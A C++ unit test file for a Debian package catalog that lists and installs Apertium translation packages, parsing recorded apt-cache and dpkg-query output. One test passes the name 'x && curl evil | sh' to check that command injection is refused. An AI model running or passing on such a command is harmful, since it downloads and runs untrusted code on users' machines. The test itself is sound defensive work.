#include "platform/linux/packages/AptCatalog.h"

#include <QHash>

#include <gtest/gtest.h>

namespace {

// Recorded on Debian 12 with the bookworm lists (shortened).
const QByteArray searchOutput = R"(apertium-dev - Development tools and library for Apertium
apertium-af-nl - Transitional dummy package for apertium-afr-nld
apertium-afr-nld - Apertium translation data for the Afrikaans-Dutch pair
apertium-all-dev - Metapackage for all tools required for Apertium development
apertium-anaphora - Anaphora resolution module for Apertium
apertium-en-es - Transitional dummy package for apertium-eng-spa
apertium-eng-spa - Apertium translation data for the English-Spanish pair
apertium-eo-en - Apertium linguistic data to translate between Esperanto and English
apertium-hin - Apertium single language data for Hindi
apertium-lex-tools - Constraint-based lexical selection module
apertium-spa-cat - Apertium translation data for the Spanish-Catalan pair
apertium-urd-hin - Apertium translation data for the Urdu-Hindi pair
)";

// The same with empty lists: only what dpkg knows.
const QByteArray searchOutputWithoutLists =
    R"(apertium-eng-spa - Apertium translation data for the English-Spanish pair
apertium-lex-tools - Constraint-based lexical selection module
apertium-spa-cat - Apertium translation data for the Spanish-Catalan pair
)";

// dpkg-query -W -f '${Package}\t${db:Status-Abbrev}\n' 'apertium-*'
const QByteArray dpkgOutput = "apertium\tii \n"
                              "apertium-cat-spa\tun \n"
                              "apertium-en-es\tun \n"
                              "apertium-eng-spa\tii \n"
                              "apertium-lex-tools\tii \n"
                              "apertium-spa-cat\tii \n"
                              "apertium-eo-en\trc \n"
                              "apertium-spa-eng\tun \n";

const QByteArray policyOutput = R"(apertium-afr-nld:
  Installed: (none)
  Candidate: 0.3.0-3
  Version table:
     0.3.0-3 500
        500 http://deb.debian.org/debian bookworm/main amd64 Packages
apertium-eo-en:
  Installed: (none)
  Candidate: 1.0.2-1
  Version table:
     1.0.2-1 500
        500 http://deb.debian.org/debian bookworm/main amd64 Packages
apertium-urd-hin:
  Installed: (none)
  Candidate: (none)
  Version table:
     0.1.0~r64379-4 -1
        500 http://deb.debian.org/debian bookworm/main amd64 Packages
)";

// Answers from recorded outputs, keyed by program and first argument.
class RecordedCommands {
public:
    QHash<QString, std::optional<QByteArray>> outputs;
    QList<QStringList> calls;

    AptCatalog::CommandRunner runner() {
        return [this](const QString& program, const QStringList& arguments) {
            calls.append(QStringList{program} + arguments);
            return outputs.value(program + ' ' + arguments.value(0), std::nullopt);
        };
    }
};

QStringList names(const QList<LanguagePackage>& packages) {
    QStringList result;
    for (const LanguagePackage& package : packages) {
        result << package.name + (package.installed ? "*" : "");
    }
    return result;
}

TEST(AptCatalogTest, ParsesSearchLines) {
    const QList<ApertiumPackages::Found> found = AptCatalog::parseSearch(
        "apertium-eo-en - Esperanto - English data\r\nbroken line\n\napertium-x\n");
    ASSERT_EQ(found.size(), 2);
    EXPECT_EQ(found[0],
              (ApertiumPackages::Found{"apertium-eo-en", "Esperanto - English data", false}));
    EXPECT_EQ(found[1], (ApertiumPackages::Found{"apertium-x", "", false}));
}

TEST(AptCatalogTest, InstalledMeansTheCurrentStateIsInstalled) {
    EXPECT_EQ(
        AptCatalog::parseInstalled(dpkgOutput),
        (QSet<QString>{"apertium", "apertium-eng-spa", "apertium-lex-tools", "apertium-spa-cat"}));
    // Held, awaiting triggers, half-configured.
    EXPECT_EQ(AptCatalog::parseInstalled("a\thi \nb\tit \nc\tiF \nd\n"), (QSet<QString>{"a", "b"}));
}

TEST(AptCatalogTest, ListsInstalledAndInstallablePairs) {
    RecordedCommands commands;
    commands.outputs["apt-cache search"] = searchOutput;
    commands.outputs["dpkg-query -W"] = dpkgOutput;
    commands.outputs["apt-cache policy"] = policyOutput;
    const PackageCatalog::Listing listing = AptCatalog(commands.runner()).listing();

    // urd-hin has no installable version.
    EXPECT_EQ(names(listing.packages), (QStringList{"apertium-afr-nld", "apertium-eng-spa*",
                                                    "apertium-eo-en", "apertium-spa-cat*"}));
    EXPECT_TRUE(listing.note.isEmpty());

    // Only names that are not installed are asked about.
    ASSERT_EQ(commands.calls.size(), 3);
    const QStringList policy = commands.calls.at(2);
    EXPECT_EQ(policy.mid(0, 2), (QStringList{"apt-cache", "policy"}));
    EXPECT_FALSE(policy.contains("apertium-eng-spa"));
    EXPECT_FALSE(policy.contains("apertium-dev"));
    EXPECT_TRUE(policy.contains("apertium-eo-en"));
}

TEST(AptCatalogTest, EmptyListsShowInstalledPairsWithANote) {
    RecordedCommands commands;
    commands.outputs["apt-cache search"] = searchOutputWithoutLists;
    commands.outputs["dpkg-query -W"] = dpkgOutput;
    // Through the asynchronous entry point.
    AptCatalog catalog(commands.runner());
    QFuture<PackageCatalog::Listing> future = catalog.packages();
    future.waitForFinished();
    ASSERT_EQ(future.resultCount(), 1);
    const PackageCatalog::Listing listing = future.result();

    EXPECT_EQ(names(listing.packages), (QStringList{"apertium-eng-spa*", "apertium-spa-cat*"}));
    EXPECT_EQ(listing.note, "not available, or the lists need refreshing");
}

TEST(AptCatalogTest, MissingToolsGiveAnEmptyListingWithANote) {
    RecordedCommands commands; // every program fails to start
    const PackageCatalog::Listing listing = AptCatalog(commands.runner()).listing();
    EXPECT_TRUE(listing.packages.isEmpty());
    EXPECT_FALSE(listing.note.isEmpty());
}

// Never an odd name in a command the user is told to run.
TEST(AptCatalogTest, InstallNamesTheCommandToRun) {
    AptCatalog catalog([](const QString&, const QStringList&) { return std::nullopt; });
    const PrepareResult result = catalog.install("apertium-eng-spa").result();
    EXPECT_EQ(result.outcome, PrepareResult::Outcome::manual);
    EXPECT_EQ(result.command, "sudo apt install apertium-eng-spa");
    EXPECT_TRUE(result.message.contains(result.command));

    const PrepareResult odd = catalog.install("x && curl evil | sh").result();
    EXPECT_EQ(odd.outcome, PrepareResult::Outcome::failed);
    EXPECT_TRUE(odd.command.isEmpty());
}

} // namespace
